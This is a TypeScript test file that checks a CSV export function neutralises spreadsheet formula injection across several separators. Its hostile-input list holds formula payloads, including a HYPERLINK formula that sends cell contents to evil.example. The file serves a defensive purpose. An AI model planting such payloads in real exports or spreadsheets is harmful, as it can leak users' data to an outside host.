import { expect, test } from 'vitest'
import { toCsv } from '../../../../server/backend/print-rows.ts'

const hostile = [
  '=1+1',
  '+49 170 1234567',
  '-1+1',
  '@SUM(A1)',
  ' =1+1',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  'Ann;=1+2',
  'Hallo;=HYPERLINK("https://evil.example/?"&A1;"Rechnung")',
  'Hallo; =1+1',
  'Hallo;"=1+1"',
  'Hallo;";"=1+1',
  'one\n=1+1\n-2\r\n+3\n@x',
  'tab\t=1+1',
  'a,=1+1',
  '"=1+1',
]

test.each([',', ';', '\t'])('No cell is a formula for a spreadsheet that splits at %j', (separator) => {
  for (const text of hostile) {
    const cells = cellsIn(
      toCsv([
        ['2026-03-01', text, 'end'],
        ['2026-03-02', 'before', text],
      ]),
      separator,
    ).flat()
    expect(
      cells.filter((cell) => /^\s*[=+\-@＝＋－＠]/.test(cell)),
      JSON.stringify(text),
    ).toEqual([])
  }
})

test('A reader that splits at commas gets every cell as written, apart from apostrophes', () => {
  const rows = hostile.map((text) => ['2026-03-01', text, 'end'])
  expect(cellsIn(toCsv(rows), ',').map((row) => row.map((cell) => cell.replaceAll("'", '')))).toEqual(rows)
})

test('Text without formulas is not changed', () => {
  const row = ['Ann-Kathrin', 'ann+news@example.com', 'Angebot: 3-5 Tage; danke!\nTel. +49', 'a = b - c']
  expect(cellsIn(toCsv([row]), ',')).toEqual([row])
})

/** The cells as a spreadsheet reads them: quotes protect a cell only if it begins with one; text after them is part of it. */
function cellsIn(csv: string, separator: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let rest = csv
  while (rest !== '') {
    const [quoted = ''] = /^"(?:[^"]|"")*"/.exec(rest) ?? []
    rest = rest.slice(quoted.length)
    const end = rest.search(/[\r\n]/)
    const next = rest.indexOf(separator)
    const length = next >= 0 && next < end ? next : end
    row.push(quoted.slice(1, -1).replaceAll('""', '"') + rest.slice(0, length))
    rest = rest.slice(length)
    if (rest.startsWith(separator)) rest = rest.slice(separator.length)
    else {
      rest = rest.replace(/^\r?\n|^\r/, '')
      rows.push(row)
      row = []
    }
  }
  return rows
}
